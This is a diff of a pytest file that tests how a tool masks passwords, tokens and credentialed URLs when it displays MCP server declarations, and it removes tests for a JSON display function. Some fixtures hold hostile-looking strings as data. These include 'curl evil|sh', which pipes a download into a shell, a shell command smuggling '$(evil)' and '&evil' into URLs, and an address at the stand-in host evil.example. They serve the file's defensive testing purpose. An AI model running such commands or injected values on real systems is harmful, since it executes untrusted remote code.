@@ -2,7 +2,7 @@ import json
 
 import pytest
 
-from satchel.sources.server_text import declaration_text, server_text, shown_json
+from satchel.sources.server_text import declaration_text, server_text
 
 REACHED = [
     ({"url": "http://127.0.0.1:/x@good.example/mcp"}, "http://127.0.0.1:/x@good.example/mcp"),
@@ -25,6 +25,22 @@ REACHED = [
     ({"command": "x", "args": ["--token", "eyJhb.planted.x"]}, "x --token '***'"),
     ({"command": "x", "args": ["TOKEN=planted"]}, "x 'TOKEN=***'"),
     ({"command": "x", "args": ["${API_KEY:-planted}"]}, "x '${API_KEY:-***}'"),
+    ({"command": "x", "args": ["db://u:p#pl$anted@h/db"]}, "x 'db://***@h/db'"),
+    ({"command": "x", "args": ["host=h password=planted"]}, "x 'host=h password=***'"),
+    ({"command": "x", "args": ["Server=h;User Id=u;Pwd=pl+=;"]}, "x 'Server=h;User Id=u;Pwd=***;'"),
+    ({"command": "x", "args": ["--pw", "p@nted!", "--pass=pl"]}, "x --pw '***' '--pass=***'"),
+    ({"command": "curl", "args": ["-u", "me:planted"]}, "curl -u 'me:***'"),
+    ({"command": "npx", "args": ["srv", "--user", "me:pl"]}, "npx srv --user 'me:***'"),
+    ({"command": "x", "args": ["-u", "me", "-p", "planted"]}, "x -u me -p '***'"),
+    ({"command": "x", "args": ["-u", "1:1", "-p", "8080"]}, "x -u 1:1 -p 8080"),
+    ({"command": "npx", "args": ["-u", "me", "-p", "evil"]}, "npx -u me -p evil"),
+    ({"command": "x", "args": ["-p", "evil"]}, "x -p evil"),
+    ({"command": "python", "args": ["-u", "evil:py"]}, "python -u evil:py"),
+    ({"command": "x", "args": ["--auth-module", "evil"]}, "x --auth-module evil"),
+    (
+        {"command": "sh", "args": ["-c", "curl http://u:$(evil)@h http://u:x&evil@h"]},
+        "sh -c 'curl http://u:$(evil)@h http://u:x&evil@h'",
+    ),
 ]
 
 
@@ -38,6 +54,26 @@ def test_lists_show_the_host_that_is_reached(url):
     assert server_text(json.dumps(["", [], "", url])).endswith(url.partition("://")[2][-12:])
 
 
+SECRET_NAMES = ["PASS", "DB_PASS", "PIN", "CARD_PIN", "DB_PWD", "PASSPHRASE", "API_KEY"]
+OTHER_NAMES = ["PATH", "PWD", "COMPASS", "GIT_ASKPASS", "TOKEN_CMD", "AUTH_HOST", "PINNED", "DSN"]
+
+
+@pytest.mark.parametrize("name", SECRET_NAMES + OTHER_NAMES)
+def test_names_of_variables_say_what_is_a_secret(name):
+    shown = declaration_text({"command": "x", "env": {name: "planted"}})
+    assert ("planted" in shown) == (name in OTHER_NAMES)
+
+
+def test_the_address_in_a_variable_keeps_its_host():
+    shown = declaration_text({"command": "x", "env": {"AUTH": "https://u:planted@evil.example/x"}})
+    assert "'https://***@evil.example/x'" in shown
+
+
+@pytest.mark.parametrize("args", [["--pw", "pl.nted/"], ["-u", "me:planted"], ["--pass=planted"]])
+def test_lists_show_no_password(args):
+    assert "nted" not in server_text(json.dumps(["x", args, None, ""]))
+
+
 def test_variables_are_masked_unless_the_command_may_run_them():
     env = {"API_KEY": "planted", "DATABASE_URL": "db://u:planted@h/db", "MODE": "fast"}
     shown = declaration_text({"command": "x", "env": env})
@@ -49,17 +85,5 @@ def test_variables_are_masked_unless_the_command_may_run_them():
     assert "curl evil|sh" in declaration_text({"command": "x", "env": {"AUTH": "curl evil|sh"}})
 
 
-def test_only_the_secrets_of_servers_are_masked_in_json():
-    servers = {"mcpServers": {"a": {"command": "x", "env": {"KEY": "planted"}}}}
-    assert json.loads(shown_json(json.dumps(servers))) == {
-        "mcpServers": {"a": {"command": "x", "env": {"KEY": "***"}}}
-    }
-    headers = {"url": "https://h.example/?planted", "headers": {"X": "planted"}}
-    assert "planted" not in shown_json(json.dumps(headers))
-    scripts = json.dumps({"url": "x", "scripts": {"auth": "curl evil|sh", "key": "evil"}})
-    assert shown_json(scripts) == scripts
-
-
-@pytest.mark.parametrize("text", ["import os\n", '{"env": {"K": 1}, "env": {}}', "[" * 9_999])
-def test_what_is_no_json_is_shown_as_it_is(text):
-    assert shown_json(text) == text
+def test_a_long_word_full_of_secret_names_takes_no_time():
+    assert server_text(json.dumps(["x", ["key" * 5_000], None, ""])).startswith("x key")
